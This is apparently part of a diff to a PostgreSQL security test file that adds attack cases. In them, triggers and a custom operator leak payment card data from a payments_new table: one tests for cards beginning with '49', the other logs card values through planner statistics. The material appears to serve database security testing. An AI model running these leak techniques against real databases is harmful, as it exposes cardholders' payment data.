@@ -181,3 +181,24 @@ CREATE FUNCTION keep() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ B
 CREATE TRIGGER keep AFTER DELETE ON orders REFERENCING OLD TABLE AS gone FOR EACH STATEMENT EXECUTE FUNCTION keep();
 -- attack
 DELETE FROM customers WHERE id = 1;
+
+--- lookup_imitated: a query of a trigger below a cascade that looks like a foreign key's own
+-- needs SELECT, LOCK on payments_new
+-- shows it is there
+-- setup
+CREATE FUNCTION look() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM 1 FROM ONLY payments_new x WHERE card LIKE '49%' FOR KEY SHARE OF x; IF FOUND THEN RAISE NOTICE 'it is there'; END IF; RETURN NEW; END $$;
+CREATE TRIGGER look BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION look();
+-- attack
+UPDATE customers SET id = 9 WHERE id = 1;
+
+--- lookup_tells_statistics: one whose operator the planner tries on the statistics' values
+-- needs SELECT, LOCK on payments_new
+-- setup
+INSERT INTO payments TABLE payments;
+ANALYZE payments_new;
+CREATE FUNCTION tell(text, text) RETURNS boolean LANGUAGE plpgsql COST 1 AS $$ BEGIN RAISE NOTICE 'card %', $1; RETURN true; END $$;
+CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = tell, RESTRICT = eqsel);
+CREATE FUNCTION look() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM 1 FROM ONLY payments_new x WHERE card === 'x' FOR KEY SHARE OF x; RETURN NEW; END $$;
+CREATE TRIGGER look BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION look();
+-- attack
+UPDATE customers SET id = 9 WHERE id = 1;
